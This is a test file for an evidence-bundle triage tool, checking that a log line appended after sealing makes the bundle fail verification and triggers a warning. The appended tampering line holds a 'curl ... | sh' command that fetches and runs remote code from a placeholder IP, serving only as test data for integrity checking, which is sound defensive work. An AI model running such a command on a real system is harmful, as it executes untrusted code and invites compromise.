/**
 * triage --bundle verifies before it judges (issue 23 item 6): a line appended to a collected
 * log after the seal must not be judged silently.
 */
import { appendFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../../src/cli/main.js";
import { createBundle } from "../../src/evidence/bundle.js";
import { tempDir } from "../helpers/evidence.js";
import { memoryIo } from "../helpers/memory-io.js";
import { SnapshotBuilder } from "../helpers/snapshot-builder.js";

const LOG = "containers/web/web-json.log";
let tmp: Awaited<ReturnType<typeof tempDir>>;

async function sealedBundle(name: string): Promise<string> {
  const b = await createBundle({ outDir: join(tmp.path, name), host: "web01", command: "test" });
  const snap = new SnapshotBuilder().container({ name: "web" }).build();
  await b.writeJson("snapshot.json", snap, { source: "breachkit" });
  await b.writeFile(
    LOG,
    '{"log":"GET / 200\\n","stream":"stdout","time":"2026-03-01T10:00:00Z"}\n',
    {
      source: "/var/lib/docker/containers/abc/abc-json.log",
    },
  );
  await b.seal({ complete: true });
  return b.dir;
}

async function triage(dir: string, json: boolean) {
  const m = memoryIo();
  await runCli(["triage", ...(json ? ["--json"] : []), "--bundle", dir], m.io);
  return m.stdout();
}

beforeAll(async () => {
  tmp = await tempDir("bk-triage-integrity-");
});
afterAll(async () => {
  await tmp.cleanup();
});

describe("triage --bundle checks the bundle first", () => {
  it("an intact bundle says verified, with no warning", async () => {
    const dir = await sealedBundle("intact");
    const out = JSON.parse(await triage(dir, true));
    expect(out.bundle.verified).toBe(true);
    expect(out.bundle.integrityProblem).toBeNull();
    expect(await triage(dir, false)).not.toMatch(/WARNING/);
  });

  it("a line appended to a collected log: a loud first line, and the JSON says not verified", async () => {
    const dir = await sealedBundle("tampered");
    await appendFile(
      join(dir, LOG),
      '{"log":"curl http://203.0.113.9/x | sh\\n","stream":"stdout","time":"2026-03-01T10:00:01Z"}\n',
    );
    const out = JSON.parse(await triage(dir, true));
    expect(out.bundle.verified).toBe(false);
    expect(out.bundle.integrityProblem).toContain(`changed: ${LOG}`);
    const text = await triage(dir, false);
    expect(text.split("\n")[0]).toMatch(
      /^WARNING: THIS BUNDLE DOES NOT VERIFY \(changed: containers\/web\/web-json\.log\)/,
    );
  });
});
